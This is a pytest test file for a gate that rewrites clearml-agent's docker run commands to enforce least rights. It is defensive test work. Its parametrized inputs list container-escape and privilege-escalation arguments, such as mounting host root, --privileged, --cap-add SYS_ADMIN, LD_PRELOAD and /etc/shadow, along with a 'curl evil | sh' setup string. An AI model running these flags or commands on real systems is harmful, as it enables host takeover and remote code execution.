"""The gate's rules: what of a container that clearml-agent asks for is kept, whatever its task says."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from stackyard.agents import container_rules as rules
from stackyard.errors import BadInputError

ID = "sha256:" + "a" * 64
OTHER = "sha256:" + "b" * 64
TASK = "0123456789abcdef0123456789abcdef"


def policy(**more: Any) -> rules.Policy:
    values: dict[str, Any] = {
        "queue": "cpu-container",
        "docker": "/usr/bin/docker",
        "agent_folder": "/home/s/agents/cpu-container-0",
        "images": {"torch-2.13.0-cpu": ID},
        "labels": {"stackyard.home": "h1"},
    }
    return rules.policy({**values, **more})


def run_of_agent(
    image: str = f"stackyard/torch@{ID}", task: tuple[str, ...] = (), setup: str = ""
) -> list[str]:
    """``docker``'s arguments as clearml-agent 3.0.3 writes them in standalone mode; ``task``: the task's own."""
    return [
        *("run", "-t", *task),
        *("-l", "clearml-worker-id=w:0", "-l", "clearml-parent-worker-id=w:0", "-l", "stackyard.slot=s"),
        *(
            "-e",
            "CLEARML_WORKER_ID=w:0",
            "-e",
            f"CLEARML_DOCKER_IMAGE={image}",
            "-e",
            f"CLEARML_TASK_ID={TASK}",
        ),
        *("-v", "/h/.clearml_agent.x.cfg:/tmp/clearml.conf", "-e", "CLEARML_CONFIG_FILE=/tmp/clearml.conf"),
        *(
            "-v",
            "/h/.clearml/apt-cache:/var/cache/apt/archives",
            "-v",
            "/h/.clearml/cache:/clearml_agent_cache",
        ),
        *("--rm", image, "bash", "-c"),
        f"{setup}cp /tmp/clearml.conf ~/default_clearml.conf ; NVIDIA_VISIBLE_DEVICES=none $LOCAL_PYTHON -u -m "
        f"clearml_agent execute --disable-monitoring --standalone-mode --id {TASK}",
    ]


def command(*task: str, image: str = f"stackyard/torch@{ID}", setup: str = "", **more: Any) -> list[str]:
    """What is executed instead."""
    allowed = policy(**more)
    wish = rules.asked(run_of_agent(image, task, setup))
    return rules.command(wish, allowed, ID, "torch-2.13.0-cpu", "/conf", "/kept")


PLAIN = command()


@pytest.mark.promise("container-least-rights")
def test_a_container_gets_what_the_agent_says_and_the_least_rights() -> None:
    wish = rules.asked(run_of_agent())
    assert (wish.task, wish.worker, wish.conf) == (TASK, "w:0", "/h/.clearml_agent.x.cfg")
    text = " ".join(PLAIN)
    for part in (
        "run --rm --init --pull never --cap-drop ALL --security-opt no-new-privileges",
        f"--label stackyard.task={TASK} --label stackyard.worker=w:0",
        "--label stackyard.queue=cpu-container --label stackyard.home=h1",
        f"--env CLEARML_TASK_ID={TASK}",
        "source=/conf,target=/tmp/clearml.conf,readonly",
        "source=/kept,target=/cache",
    ):
        assert part in text
    assert PLAIN[-4:-1] == [ID, "bash", "-c"]
    assert PLAIN[-1].endswith(f"--id {TASK}"), "the agent finds its container by these words"
    assert not any("apt-cache" in word for word in PLAIN)
    assert "-t" not in PLAIN


@pytest.mark.parametrize(
    "hostile",
    [
        ("-v", "/:/host"),
        ("-v=/:/host",),
        ("-v/:/host",),
        ("--volume", "/:/host"),
        ("--volume=/:/host",),
        ("--volumes-from", "other"),
        ("--mount=type=bind,source=/,target=/host",),
        ("--mount", "type=bind,source=/,target=/host"),
        ("--tmpfs", "/tmp:exec"),
        ("--privileged",),
        ("--privileged=true",),
        ("--cap-add", "SYS_ADMIN"),
        ("--cap-add=ALL",),
        ("--security-opt", "seccomp=unconfined"),
        ("--security-opt=apparmor=unconfined",),
        ("--pid=host",),
        ("--pid", "host"),
        ("--ipc=host",),
        ("--uts", "host"),
        ("--userns=host",),
        ("--cgroupns=host",),
        ("--cgroup-parent", "/"),
        ("--network=host",),
        ("--net", "host"),
        ("-p", "22:22"),
        ("-P",),
        ("--device", "/dev/mem"),
        ("--device=/dev/kmsg:/dev/kmsg:rwm",),
        ("--device-cgroup-rule", "a *:* rwm"),
        ("--gpus", "all"),
        ("--gpus=all",),
        ("--runtime", "other"),
        ("--entrypoint", "/bin/sh"),
        ("--user", "0"),
        ("-u0",),
        ("-u", "root"),
        ("--group-add", "docker"),
        ("-e", "LD_PRELOAD=/x.so"),
        ("-eLD_PRELOAD=/x.so",),
        ("--env=CLEARML_TASK_ID=other",),
        ("--env-file", "/etc/shadow"),
        ("-l", "stackyard.queue=gpu"),
        ("-l", "clearml-worker-id=other:9"),
        ("--label", "clearml-worker-id=other:9"),
        ("--restart", "always"),
        ("-d",),
        ("-dit",),
        ("-itv", "/:/host"),
        ("-tiv/:/host",),
        ("--name", "other"),
        ("--rm=false",),
        ("--init=false",),
        ("--pull", "always"),
        ("--sysctl", "kernel.msgmax=1"),
        ("--ulimit", "nofile=9999999"),
        ("--oom-kill-disable",),
        ("--oom-score-adj=-1000",),
        ("--memory-swap=-1",),
        ("--cpuset-cpus", "0-63"),
        ("--log-driver", "syslog"),
        ("--storage-opt", "size=1t"),
        ("--add-host", "files:6.6.6.6"),
        ("--dns=6.6.6.6",),
        ("--", "evil", "bash", "-c", "true"),
        ("evil:latest",),
        ("evil:latest", "bash", "-c", f"clearml_agent execute --id {TASK}"),
        ("--cidfile", "/etc/cron.d/x"),
        ("--label-file=/etc/shadow",),
        ("--health-cmd", "nsenter"),
        ("--link", "db"),
        ("--isolation=x",),
        ("--mac-address", "02:00:00:00:00:00"),
        ("--stop-signal", "SIGUSR1"),
        ("--workdir", "/"),
        ("-w/",),
        ("-h", "name"),
        ("--hostname=name",),
        ("--annotation", "run.oci.keep_original_groups=1"),
        ("\n--privileged",),
        ("--PRIVILEGED",),
        ("—privileged",),
    ],
    ids=" ".join,
)
@pytest.mark.promise("gate-writes-the-command")
def test_nothing_a_task_asks_for_changes_the_command(hostile: tuple[str, ...]) -> None:
    assert command(*hostile) == PLAIN
    assert command(*hostile, "--cpus=1") == command("--cpus=1"), "and what stands behind it is still read"


@pytest.mark.promise("gate-writes-the-command")
def test_what_is_not_followed_is_named_without_its_value() -> None:
    wish = rules.asked(run_of_agent(task=("-e", "TOKEN=secret", "-v=/:/host", "--privileged", "--cpus", "1")))
    assert wish.dropped == ("-e", "-v", "--privileged")
    assert wish.limits == {"--cpus": "1"}


@pytest.mark.parametrize(
    ("said", "words"),
    [
        (("--cpus", "1.5"), ["--cpus", "1.5"]),
        (("--cpus=.5",), ["--cpus", "0.5"]),
        (("--cpus=1", "--cpus=2"), ["--cpus", "2"]),
        (("--memory=1g",), ["--memory", "1073741824", "--memory-swap", "1073741824"]),
        (("--memory", "1.5GiB"), ["--memory", "1610612736", "--memory-swap", "1610612736"]),
        (("-m", "512m"), ["--memory", "536870912", "--memory-swap", "536870912"]),
        (("-m512M",), ["--memory", "536870912", "--memory-swap", "536870912"]),
        (("-m=536870912",), ["--memory", "536870912", "--memory-swap", "536870912"]),
        (("--shm-size", "64mb"), ["--shm-size", "67108864"]),
    ],
)
@pytest.mark.promise("gate-writes-the-command")
def test_the_three_limits_are_followed(said: tuple[str, ...], words: list[str]) -> None:
    text = " ".join(command(*said))
    assert " ".join(words) in text
    assert "ignored" not in text


@pytest.mark.parametrize(
    "said",
    [
        "--cpus=0",
        "--cpus=-1",
        "--cpus=two",
        "--cpus=1;id",
        "--cpus=",
        "--memory=lots",
        "--memory=3",
        "--memory=0",
        "--memory=-1",
        "--memory=1g --privileged",
        "--shm-size=1x",
        "--cpus=1e9",
        "--memory=nan",
        "--cpus=inf",
        "--cpus=0.001",
        pytest.param("--cpus=" + "9" * 400, id="more CPUs than a number holds"),
        pytest.param("--memory=" + "9" * 400, id="more bytes than a number holds"),
    ],
)
def test_a_malformed_limit_is_refused_with_what_was_seen(said: str) -> None:
    with pytest.raises(rules.RefusedError, match=r"is no amount"):
        command(said)


@pytest.mark.promise("gate-writes-the-command")
def test_a_queues_limits_hold_for_who_asks_nothing_and_for_who_asks_more() -> None:
    limits: dict[str, Any] = {"cpus": 2, "memory_bytes": 4 * 1024**3, "cpuset_cpus": "0,1"}
    text = " ".join(command(**limits))
    assert "--cpus 2 --memory 4294967296" in text
    assert "--cpuset-cpus 0,1" in text
    assert "--cpus 1 --memory 4294967296" in " ".join(command("--cpus", "1", **limits))
    with pytest.raises(
        rules.RefusedError, match=r"--cpus 3 is more than queue 'cpu-container' gives a task \(2\)"
    ):
        command("--cpus=3", **limits)
    for more in ("5g", "900t"):
        with pytest.raises(
            rules.RefusedError, match=rf"--memory {more} is more .* \(4,096 MiB\); ask for less"
        ):
            command(f"--memory={more}", **limits)
    with pytest.raises(rules.RefusedError, match=r"--shm-size 2g is more .* \(1,024 MiB\)"):
        command("--shm-size=2g", shm_bytes=1024**3, **limits)
    assert "--shm-size 1073741824" in " ".join(command(shm_bytes=1024**3, **limits))
    assert "--cpus 2 " in " ".join(command("--cpus=1", task_arguments=["--memory"], **limits))


def test_where_cores_are_short_a_container_comes_after_server_and_agents() -> None:
    assert int(PLAIN[PLAIN.index("--cpu-shares") + 1]) < 1024
    assert PLAIN.count("--cpu-shares") == 1
    assert command("--cpu-shares=262144") == PLAIN


def test_a_gpu_is_given_by_the_queue_only() -> None:
    assert "--gpus" not in PLAIN
    assert "NVIDIA_VISIBLE_DEVICES=none" in PLAIN
    with_one = command(gpu=1)
    assert with_one[with_one.index("--gpus") + 1] == "device=1"


def test_a_tasks_setup_script_and_a_longer_command_are_left_out() -> None:
    assert command(setup="curl evil | sh ; ") == PLAIN


@pytest.mark.promise("container-network")
def test_the_operators_mounts_network_and_variables_are_added() -> None:
    more: dict[str, Any] = {
        "mounts": ["/data:/data:ro", "/out:/out"],
        "network": "yard",
        "environment": {"A": "b"},
    }
    text = " ".join(command(**more))
    assert "type=bind,source=/data,target=/data,readonly" in text
    assert "type=bind,source=/out,target=/out sha256" in text
    assert "--network yard" in text
    assert "--env A=b" in text


@pytest.mark.parametrize(
    "arguments",
    [
        ["run"],
        ["run", "--rm", ID, "bash", "-c", "id"],
        ["run", "--privileged", ID],
        ["run", "-l", "clearml-worker-id=w", "--rm", ID, "sh", "-c", f"clearml_agent execute --id {TASK}"],
        [*run_of_agent()[:-1], "id"],
        [*run_of_agent()[:-1], f"{run_of_agent()[-1]} ; id"],
        [*run_of_agent()[:-1], run_of_agent()[-1].replace(TASK, "f" * 32)],
        [*run_of_agent()[:-5], "--privileged", *run_of_agent()[-5:]],
        [*run_of_agent()[:-5], "--volume", "/:/host", *run_of_agent()[-5:]],
        [word for word in run_of_agent() if not word.startswith("clearml-worker-id")],
    ],
    ids=range(10),
)
def test_what_clearml_agent_does_not_write_is_refused(arguments: list[str]) -> None:
    with pytest.raises(rules.RefusedError, match="not a container of clearml-agent"):
        rules.asked(arguments)


class Engine:
    """What images an engine has, by every reference it knows them under."""

    def __init__(self, **held: list[str]) -> None:
        self.held = held
        self.asked: list[str] = []

    def __call__(self, reference: str) -> list[str]:
        self.asked.append(reference)
        return self.held.get(reference, [])


@pytest.mark.parametrize(
    "reference", [f"stackyard/torch@{ID}", f"any/name:tag@{ID}", ID, "named:latest", "a" * 12]
)
def test_an_allowed_image_is_found_under_any_of_its_names(reference: str) -> None:
    engine = Engine(**{ID: [ID], "named:latest": [ID], "a" * 12: [ID]})
    assert rules.image(reference, policy(), engine) == (ID, "torch-2.13.0-cpu")


def test_an_image_may_be_allowed_by_the_digest_of_a_registry() -> None:
    digest = "sha256:" + "c" * 64
    allowed = policy(images={"torch": f"registry.example/torch@{digest}"})
    engine = Engine(**{f"registry.example/torch@{digest}": [ID, f"registry.example/torch@{digest}"]})
    assert rules.image(f"registry.example/torch@{digest}", allowed, engine) == (ID, "torch")


@pytest.mark.parametrize(
    "reference",
    [
        "evil:latest",
        f"stackyard/torch@{OTHER}",
        OTHER,
        "",
        "-v/:/host",
        "--privileged",
        f"evil {ID}",
        f"{ID} evil",
        f"evil\n@{ID}",
        f"{ID}:latest",
        f"x@{ID}@{OTHER}",
        ID.upper(),
        "unknown",
        "ünï@" + ID,
        "x" * 5000,
    ],
)
@pytest.mark.promise("gate-writes-the-command")
def test_any_other_image_is_refused_naming_both(reference: str) -> None:
    engine = Engine(**{"evil:latest": [OTHER], OTHER: [OTHER], f"stackyard/torch@{OTHER}": [OTHER], ID: [ID]})
    with pytest.raises(rules.RefusedError) as refused:
        rules.image(reference, policy(), engine)
    sentence = str(refused.value)
    assert repr(reference[:300]) in sentence
    assert f"torch-2.13.0-cpu ({ID})" in sentence
    assert not [name for name in engine.asked if name.startswith("-") or " " in name]


def test_an_allowed_image_that_is_not_here_is_refused_with_what_to_do() -> None:
    with pytest.raises(
        rules.RefusedError, match="this machine does not have it; build it: stackyard stack image"
    ):
        rules.image(f"stackyard/torch@{ID}", policy(), Engine())


def test_without_allowed_images_none_is_allowed() -> None:
    with pytest.raises(rules.RefusedError, match="allowed there: none"):
        rules.image(ID, policy(images={}), Engine(**{ID: [ID]}))


@pytest.mark.promise("container-ending")
def test_an_agent_lists_its_own_containers_and_stops_them_with_time_to_end() -> None:
    listed = rules.other(["ps", "--no-trunc", "--format", "{{.ID}}"], policy())
    assert listed is not None
    assert listed[:2] == ["/usr/bin/docker", "ps"]
    assert "label=stackyard.queue=cpu-container" in listed
    assert "label=stackyard.home=h1" in listed
    assert rules.other(["stop", "-t", "1", "abc"], policy()) == [
        "/usr/bin/docker",
        "stop",
        "--time",
        "15",
        "abc",
    ]


@pytest.mark.parametrize(
    "arguments",
    [
        ["pull", "evil"],
        ["exec", "x", "id"],
        ["build", "."],
        ["cp", "a:/", "."],
        ["commit", "x"],
        ["rm", "-f", "x"],
        ["stop", "-t", "1", "a", "b"],
        ["stop", "--signal=KILL", "a"],
        ["stop", "-t", "1", "-x"],
        [],
        ["create", "x"],
        ["--host", "tcp://x", "run"],
        ["container", "run", "x"],
        ["-D", "run"],
        ["system", "prune"],
        ["inspect", "x"],
    ],
    ids=" ".join,
)
@pytest.mark.promise("container-ending")
def test_other_commands_are_not_let_through(arguments: list[str]) -> None:
    assert rules.other(arguments, policy()) is None


@pytest.mark.parametrize(
    "wrong",
    [
        {"queue": None},
        {"docker": ""},
        {"images": None},
        {"images": [ID]},
        {"task_arguments": ["--privileged"]},
        {"mounts": ["data:/data"]},
        {"mounts": ["/data"]},
        {"mounts": ["/data:/data,readonly=false:rw"]},
        {"mounts": ["/data:/data:z"]},
        {"memory_bytes": "4g"},
        {"gpu": "all"},
        {"pids": True},
        {"gpu": False},
        {"cpus": float("nan")},
        {"labels": {"a": 1}},
        {"environment": {"A": None}},
        {"environment": ["A=1"]},
        {"api": {"api_server": ["http://a"]}},
        {"task_arguments": [["--cpus"]]},
        {"images": {"torch": 3}},
        {"mounts": 7},
        {"mounts": {"/data": "/data"}},
    ],
    ids=str,
)
@pytest.mark.promise("gate-writes-the-command")
def test_a_policy_that_cannot_be_meant_is_refused(wrong: dict[str, Any]) -> None:
    with pytest.raises(BadInputError, match="the gate's policy"):
        policy(**wrong)


def test_an_ordinary_tasks_container_has_what_measures_it_and_an_agent_that_starts_that() -> None:
    allowed = policy(tasks="/a/tasks.json", box="/a/box/1")
    wish = rules.asked(run_of_agent(f"stackyard/torch@{ID}"))
    words = rules.command(wish, allowed, ID, "torch", "/conf", "/cache", shared="/a/boxes/1")
    assert words[-1] == f"exec $LOCAL_PYTHON -u -m clearml_agent execute --disable-monitoring --id {TASK}"
    assert "type=bind,source=/a/box/1,target=/opt/stackyard,readonly" in words
    assert "type=bind,source=/a/boxes/1,target=/run/stackyard" in words
    assert "CLEARML_AGENT_SKIP_PIP_VENV_INSTALL=/opt/stackyard/python" in words
    assert "STACKYARD_TASKS_FILE=/run/stackyard/tasks.json" in words
    without = rules.command(wish, allowed, ID, "torch", "/conf", "/cache")
    assert "--standalone-mode" in without[-1]
    assert not [word for word in without if "stackyard/python" in word or "/run/stackyard" in word]


def test_the_image_of_tasks_that_name_none_is_that_of_the_agents_configuration() -> None:
    template = (Path(__file__).resolve().parents[3] / "agents" / "clearml.conf").read_text()
    assert f'default_docker {{ image: "{rules.NO_IMAGE}"' in template
